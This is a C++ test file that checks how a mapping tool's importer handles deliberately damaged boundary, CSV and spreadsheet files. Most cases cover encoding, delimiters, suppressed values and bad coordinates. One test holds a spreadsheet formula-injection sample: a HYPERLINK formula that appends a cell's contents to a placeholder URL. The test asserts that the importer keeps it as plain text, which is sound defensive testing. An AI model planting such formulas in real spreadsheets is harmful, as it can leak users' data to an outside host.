// The deliberately damaged files of the shared data: what its README asks of a good importer.
#include <doctest/doctest.h>

#include "base/error.hpp"
#include "io/shared_data.hpp"
#include "io/table_reader.hpp"

using namespace needsmap;
using namespace needsmap::io;
using model::CellState;

namespace {

std::shared_ptr<const model::Workspace> with_boundaries(const std::string& file, const std::string& code, const std::string& more = {}) {
    const TemporaryFolder folder;
    return read_fresh(
        folder.write("w.toml", "format = 1\ntitle = \"T\"\ncounty = \"Oxford\"\n[[geography]]\nid = \"ward\"\nboundaries = \"" +
                                   (shared_data() / "broken" / file).string() + "\"\ncode = \"" + code + "\"\n" + more + "\n"));
}

/// One broken table against the real boundaries, and a layer that reads `value` from it.
std::shared_ptr<const model::Workspace> with_table(const std::string& file, const std::string& geography, const std::string& key,
                                                   const std::string& value, const std::string& more = {}) {
    const TemporaryFolder folder;
    folder.write("layers/x.toml", "title = \"X\"\nkind = \"score\"\ntable = \"t\"\nvalue = \"" + value + "\"\n");
    const std::string data = shared_data().string();
    const auto boundaries = [&](const std::string& id, const std::string& name, const std::string& prefix) {
        return "[[geography]]\nid = \"" + id + "\"\nsingular = \"" +
               (id == "district" ? "district"
                : id == "lsoa"   ? "LSOA"
                                 : "MSOA") +
               "\"\nboundaries = \"" + data + "/oxfordshire/" + name + ".geojson\"\ncode = \"" + prefix + "cd\"\nname = \"" + prefix +
               "nm\"\n";
    };
    const std::string areas = geography == "lsoa"   ? boundaries("lsoa", "lsoa11", "lsoa11")
                              : geography == "msoa" ? boundaries("msoa", "msoa11", "msoa11")
                                                    : boundaries("district", "lad", "lad13");
    return read_fresh(folder.write("w.toml", "format = 1\ntitle = \"T\"\ncounty = \"Oxfordshire\"\nlayers = \"layers\"\n" + areas +
                                                 "[[table]]\nid = \"t\"\nfile = \"" + data + "/broken/" + file + "\"\ngeography = \"" +
                                                 geography + "\"\n" + key + "\n" + more));
}

std::shared_ptr<const model::Workspace> with_places(const std::string& file, const std::string& columns) {
    const TemporaryFolder folder;
    const std::string data = shared_data().string();
    return read_fresh(
        folder.write("w.toml", "format = 1\ntitle = \"T\"\ncounty = \"Oxfordshire\"\n[[geography]]\nid = \"district\"\nboundaries = \"" +
                                   data + "/oxfordshire/lad.geojson\"\ncode = \"lad13cd\"\n[[places]]\nid = \"p\"\nfile = \"" + data +
                                   "/broken/" + file + "\"\n" + columns));
}

const std::vector<model::Cell>& cells_of(const model::Workspace& workspace) { return workspace.tables.at(0)->columns.at(0).cells; }

double sum_of(const model::Workspace& workspace) {
    double sum = 0;
    for (const model::Cell& cell : cells_of(workspace))
        if (cell.has_number()) sum += cell.number;
    return sum;
}
int count_state(const model::Workspace& workspace, CellState state) {
    return static_cast<int>(std::ranges::count(cells_of(workspace), state, &model::Cell::state));
}

const std::string partial = "partial = true\n";  // these tables cover Oxford only

}  // namespace

TEST_CASE("01 a truncated download is refused with the line it ends in") {
    SKIP_WITHOUT_SHARED_DATA();
    CHECK_THROWS_WITH_AS((void)with_boundaries("01_truncated.geojson", "wd13cd"), doctest::Contains("The file ends early, in line 16"),
                         base::Error);
}

TEST_CASE("02 an outline that crosses itself is repaired, named, and a problem because its size changed") {
    SKIP_WITHOUT_SHARED_DATA();
    const auto w = with_boundaries("02_self_intersecting.geojson", "wd13cd", "name = \"wd13nm\"");
    CHECK(w->geographies[0]->size() == 3);
    CHECK(error_count(w->diagnostics) == 1);
    const auto* d = find_diagnostic(w->diagnostics, "invalid-polygon", "E05006546 Blackbird Leys crosses itself");
    REQUIRE(d);
    CHECK(d->severity == base::Severity::error);
}

TEST_CASE("03 an identical copy is dropped with a note; a code used for two wards is a problem") {
    SKIP_WITHOUT_SHARED_DATA();
    const auto w = with_boundaries("03_duplicate_codes.geojson", "wd13cd", "name = \"wd13nm\"");
    CHECK(w->geographies[0]->size() == 24);
    CHECK(find_diagnostic(w->diagnostics, "identical-areas", "E05006549"));
    CHECK(find_diagnostic(w->diagnostics, "duplicate-code", "E05006553 is used for Hinksey Park and for Headington Hill and Northway"));
    CHECK(error_count(w->diagnostics) == 1);
}

TEST_CASE("04 metres that claim to be degrees are read as the metres they look like, and that has to be confirmed") {
    SKIP_WITHOUT_SHARED_DATA();
    const auto w = with_boundaries("04_bng_labelled_wgs84.geojson", "wd13cd");
    const auto& box = w->geographies[0]->coverage->full().bounds();
    CHECK(box.min_x == doctest::Approx(448101).epsilon(1e-6));  // metres with one decimal in the file
    CHECK(box.max_y == doctest::Approx(211089).epsilon(1e-6));
    const auto* d = find_diagnostic(w->diagnostics, "coordinate-system", "look like British National Grid");
    REQUIRE(d);
    CHECK(d->severity == base::Severity::error);
    CHECK(d->hint.find("crs = \"EPSG:27700\"") != std::string::npos);
    CHECK(w->diagnostics.items().size() == 1);
    CHECK(error_count(with_boundaries("04_bng_labelled_wgs84.geojson", "wd13cd", "crs = \"EPSG:27700\"")->diagnostics) == 0);
}

TEST_CASE("05 a zipped shapefile without a coordinate system asks for it") {
    SKIP_WITHOUT_SHARED_DATA();
    const auto w = with_boundaries("05_shapefile_no_prj.zip", "WD13CD");
    CHECK(w->geographies[0]->size() == 24);
    CHECK(find_diagnostic(w->diagnostics, "coordinate-system", "does not say its coordinate system"));
    CHECK(error_count(w->diagnostics) == 1);
    CHECK(with_boundaries("05_shapefile_no_prj.zip", "WD13CD", "crs = \"EPSG:27700\"")->diagnostics.empty());
}

TEST_CASE("06 byte order mark, CRLF and thousands commas do not show") {
    SKIP_WITHOUT_SHARED_DATA();
    const auto w = with_table("06_bom_crlf_thousands.csv", "lsoa", "code = \"LSOA Code\"", "All ages", partial);
    CHECK(sum_of(*w) == 152457);
    CHECK(sum_of(*with_table("06_bom_crlf_thousands.csv", "lsoa", "code = \"LSOA Code\"", "Aged 0-4", partial)) == 8178);
    CHECK(error_count(w->diagnostics) == 0);
}

TEST_CASE("07 markers are suppressed or missing, never zero and never text") {
    SKIP_WITHOUT_SHARED_DATA();
    const auto w = with_table("07_suppressed_values.csv", "lsoa", "code = \"lsoa11cd\"", "female15_17", partial);
    // 59 plain numbers (sum 1,839), " 27 ", and "31 u" and "35*" with a note
    CHECK(sum_of(*w) == 1839 + 27 + 31 + 35);
    CHECK(count_state(*w, CellState::value) == 60);
    CHECK(count_state(*w, CellState::provisional) == 2);
    CHECK(count_state(*w, CellState::suppressed) == 7);      // * * c c <5 <5 [c]
    CHECK(count_state(*w, CellState::not_applicable) == 2);  // : [z]
    CHECK(find_diagnostic(w->diagnostics, "marked-cell", "2 numbers"));
    CHECK(error_count(w->diagnostics) == 0);
}

TEST_CASE("08 codes of another census are counted and recognised") {
    SKIP_WITHOUT_SHARED_DATA();
    const auto w = with_table("08_lsoa21_codes_for_2011_boundaries.csv", "lsoa", "code = \"LSOA code\"", "IMD 2025 score");
    CHECK(find_diagnostic(w->diagnostics, "code-without-area", "386 of 428 rows match; 42 codes are not in the LSOAs"));
    CHECK(find_diagnostic(w->diagnostics, "code-without-area", "look like 2021 LSOA codes"));
    CHECK(find_diagnostic(w->diagnostics, "area-without-row", "21 LSOAs have no row"));
    CHECK(count_state(*w, CellState::value) == 386);
    CHECK(count_state(*w, CellState::missing) == 21);
}

TEST_CASE("09 Windows-1252 names come out right") {
    SKIP_WITHOUT_SHARED_DATA();
    base::Diagnostics diagnostics;
    const auto table = read_raw_table(resolve_path(shared_data(), "broken/09_windows1252_names.csv"), {}, {"Service"}, 0, diagnostics);
    CHECK(table.columns[3] == "Cost (£)");
    CHECK(table.text(8, 0) == "St Clement’s");
    CHECK(table.text(8, 4) == "Café – drop-in");
    CHECK(find_diagnostic(diagnostics, "encoding", "Windows-1252"));
}

TEST_CASE("10 semicolons and decimal commas are recognised and said") {
    SKIP_WITHOUT_SHARED_DATA();
    const auto w = with_table("10_semicolon_decimal_comma.csv", "lsoa", "code = \"lsoa11cd\"", "imd_score", partial);
    double highest = 0;
    for (const model::Cell& cell : cells_of(*w))
        if (cell.has_number()) highest = std::max(highest, cell.number);
    CHECK(highest == 44.473);
    CHECK(find_diagnostic(w->diagnostics, "decimal-comma"));
    CHECK(find_diagnostic(w->diagnostics, "delimiter"));
}

TEST_CASE("11 titles, a total row and footnotes are left out and that is said") {
    SKIP_WITHOUT_SHARED_DATA();
    const auto w = with_table("11_title_and_footnotes.csv", "district", "code = \"Code\"", "2021/22 (p)");
    CHECK(sum_of(*w) == 19624);  // the file's own total row
    CHECK(find_diagnostic(w->diagnostics, "title-rows", "line 4"));
    CHECK(find_diagnostic(w->diagnostics, "total-rows", "Oxfordshire total"));
    CHECK(find_diagnostic(w->diagnostics, "text-rows", "Notes"));
    CHECK(error_count(w->diagnostics) == 0);
}

TEST_CASE("12 percent strings are numbers in percent and a share stays a share") {
    SKIP_WITHOUT_SHARED_DATA();
    const auto percent = with_table("12_percent_strings.csv", "lsoa", "code = \"lsoa11cd\"", "pct_aged_0_15", partial);
    const auto share = with_table("12_percent_strings.csv", "lsoa", "code = \"lsoa11cd\"", "share_aged_0_15", partial);
    const auto area = static_cast<std::size_t>(*percent->geographies[0]->find_code("E01028513"));
    CHECK(cells_of(*percent)[area].number == 28.1);
    CHECK(cells_of(*share)[area].number == 0.2811);
    CHECK(count_state(*percent, CellState::value) == 83);
    CHECK(error_count(percent->diagnostics) == 0);
}

TEST_CASE("13 and 14: a header alone and an empty file are one sentence each") {
    SKIP_WITHOUT_SHARED_DATA();
    CHECK(find_diagnostic(with_table("13_header_only.csv", "lsoa", "code = \"lsoa11cd\"", "imd_score")->diagnostics, "no-rows",
                          "no rows to load"));
    CHECK(find_diagnostic(with_table("14_empty.csv", "lsoa", "code = \"lsoa11cd\"", "imd_score")->diagnostics, "unreadable-file",
                          "The file is empty."));
}

TEST_CASE("15 and 16: formulas are text and very long fields are whole") {
    SKIP_WITHOUT_SHARED_DATA();
    const std::string columns = "name = \"name\"\nx = \"lon\"\ny = \"lat\"\ncrs = \"EPSG:4326\"\n";
    const auto formulas = with_places("15_formula_cells.csv", columns);
    REQUIRE(formulas->places.size() == 1);
    CHECK(formulas->places[0]->places.size() == 11);
    CHECK(formulas->places[0]->places[0].name == "=HYPERLINK(\"http://example.invalid/?q=\"&A2,\"Click here\")");
    const auto longest = with_places("16_very_long_field.csv", columns + "details = [ { column = \"description\" } ]\n");
    CHECK(longest->places[0]->places.size() == 11);
    std::size_t length = 0;
    for (const model::Place& place : longest->places[0]->places) length = std::max(length, place.details[0].size());
    CHECK(length >= 214000);  // "one field of 215,000", trimmed
    CHECK(error_count(longest->diagnostics) == 0);
}

TEST_CASE("17 a publisher's spreadsheet is read by sheet, header line and column number") {
    SKIP_WITHOUT_SHARED_DATA();
    const auto w = with_table("17_title_rows.xlsx", "district", "code = \"#1\"", "#3", "layer = \"Table 6\"\nheader_line = 7\n");
    const auto& geography = *w->geographies[0];
    CHECK(cells_of(*w)[static_cast<std::size_t>(*geography.find_code("E07000178"))].number == 30);
    CHECK(count_state(*w, CellState::value) == 5);
    CHECK(find_diagnostic(w->diagnostics, "other-areas", "3 rows"));  // England, South East, Oxfordshire: 8 areas in all
    CHECK(error_count(w->diagnostics) == 0);
}

TEST_CASE("18 carriage returns end lines") {
    SKIP_WITHOUT_SHARED_DATA();
    const auto w =
        with_table("18_cr_only_thousands.csv", "lsoa", "code = \"LSOA code (2011)\"", "Index of Multiple Deprivation (IMD) Rank", partial);
    CHECK(count_state(*w, CellState::value) == 83);
    CHECK(cells_of(*w)[static_cast<std::size_t>(*w->geographies[0]->find_code("E01028513"))].number == 6730);
    CHECK(error_count(w->diagnostics) == 0);
}

TEST_CASE("19 names join where the workspace says so, and totals are left out") {
    SKIP_WITHOUT_SHARED_DATA();
    const auto w = with_table("19_names_only_no_codes.csv", "msoa", "name = \"Year\"", "2021/22 (p)");
    CHECK(count_state(*w, CellState::value) == 86);
    CHECK(find_diagnostic(w->diagnostics, "joined-by-name", "86 of 86 MSOAs"));
    CHECK(find_diagnostic(w->diagnostics, "total-rows", "2 rows"));
    CHECK(error_count(w->diagnostics) == 0);
}

TEST_CASE("20 sound services are placed and each of the others is told with its row and reason") {
    SKIP_WITHOUT_SHARED_DATA();
    const auto w = with_places("20_services_bad_coordinates.csv", "name = \"name\"\nx = \"easting\"\ny = \"northing\"\n");
    CHECK(w->places.at(0)->places.size() == 5);
    const auto told = [&](int line, std::string_view reason) {
        return std::ranges::any_of(w->diagnostics.items(), [&](const base::Diagnostic& d) {
            return d.line == line && d.severity == base::Severity::error && d.text().find(reason) != std::string::npos;
        });
    };
    CHECK(told(3, "look swapped"));
    CHECK(told(4, "position 0, 0"));
    CHECK(told(5, "no coordinates"));
    CHECK(told(7, "longitude and latitude"));
    CHECK(told(8, "a digit too many"));
    CHECK(told(9, "\"SP 55 08\""));
    CHECK(error_count(w->diagnostics) == 6);
    CHECK(find_diagnostic(w->diagnostics, "place-outside", "Middleton Cheney"));
}
